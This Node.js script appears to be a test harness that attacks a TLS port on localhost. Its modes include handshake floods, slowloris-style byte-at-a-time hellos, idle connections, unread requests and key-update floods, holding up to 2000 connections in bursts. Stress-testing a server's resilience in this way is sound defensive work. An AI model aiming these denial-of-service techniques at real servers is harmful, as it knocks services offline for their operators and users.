import { readFileSync } from 'node:fs'
import { connect as connectTcp } from 'node:net'
import { Duplex } from 'node:stream'
import { connect } from 'node:tls'
import { floodWithKeyUpdates } from './key-updates.mjs'

/**
 * Attacks a TLS port from a process of its own: node attacker.mjs WAY PORT RATE [ADDRESS [IDENTITY]]. RATE is in
 * connections a second, of which it holds 2000. Ways that need a certificate use IDENTITY.pem and IDENTITY.key. It prints
 * `begun` when its first bytes are on their way, and at its end the number of connections that it opened.
 */
const [, , way, port, rate, localAddress = '127.0.0.1', identity] = process.argv
const target = { host: '127.0.0.1', port: Number(port), localAddress }
const HELD = 2000
/** Connections come in bursts, as from many machines at once. */
const BURST_MS = 250

/** A client's first message. */
const hello = await new Promise((resolve) => {
  const socket = new Duplex({ read: () => undefined, write: (chunk, _encoding, done) => (resolve(chunk), done()) })
  connect({ socket, servername: 'localhost', minVersion: 'TLSv1.3' }).on('error', () => undefined)
})

const shown = identity && { cert: readFileSync(`${identity}.pem`), key: readFileSync(`${identity}.key`) }
/** More bytes than a server reads at once: about 200 KiB. */
const KEY_UPDATES = 8000

let isBegun = false
function begun() {
  if (!isBegun) process.stdout.write('begun\n')
  isBegun = true
}

const ways = {
  /** Complete handshakes with a certificate, and no further bytes. */
  certificates: () => connect({ ...target, ...shown, rejectUnauthorized: false, minVersion: 'TLSv1.3' }),
  'key updates': () => floodWithKeyUpdates(target, KEY_UPDATES, begun),
  /** Complete handshakes without a certificate, and no further bytes. */
  handshakes: () => connect({ ...target, rejectUnauthorized: false, minVersion: 'TLSv1.3' }),
  /** Hellos, which make the server do the expensive part, and no further bytes. */
  hellos: () => connectTcp(target),
  silence: () => connectTcp(target),
  /** Hellos, a byte at a time. */
  slow: () => {
    const socket = connectTcp(target)
    let sent = 0
    const timer = setInterval(() => socket.write(hello.subarray(sent, (sent += 1))), 50)
    socket.once('close', () => clearInterval(timer))
    return socket
  },
  /** Requests without a certificate, whose answers are not read. */
  requests: () => {
    const socket = connect({ ...target, rejectUnauthorized: false, minVersion: 'TLSv1.3' })
    socket.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n')
    return socket
  },
}

const open = new Set()
let opened = 0
let silent = []
setInterval(() => {
  for (const socket of silent) socket.write(hello)
  silent = []
  for (let count = 0; count < (Number(rate) * BURST_MS) / 1000; count += 1) {
    const socket = ways[way]()
    opened += 1
    // It takes a moment to make key updates.
    if (way !== 'key updates') socket.once('connect', begun)
    socket.on('error', () => undefined)
    socket.once('close', () => open.delete(socket))
    open.add(socket)
    if (way === 'hellos') silent.push(socket)
    if (open.size <= HELD) continue
    const [oldest] = open
    open.delete(oldest)
    oldest.destroy()
  }
}, BURST_MS)
process.on('SIGTERM', () => {
  process.stdout.write(`${opened}\n`, () => process.exit(0))
})
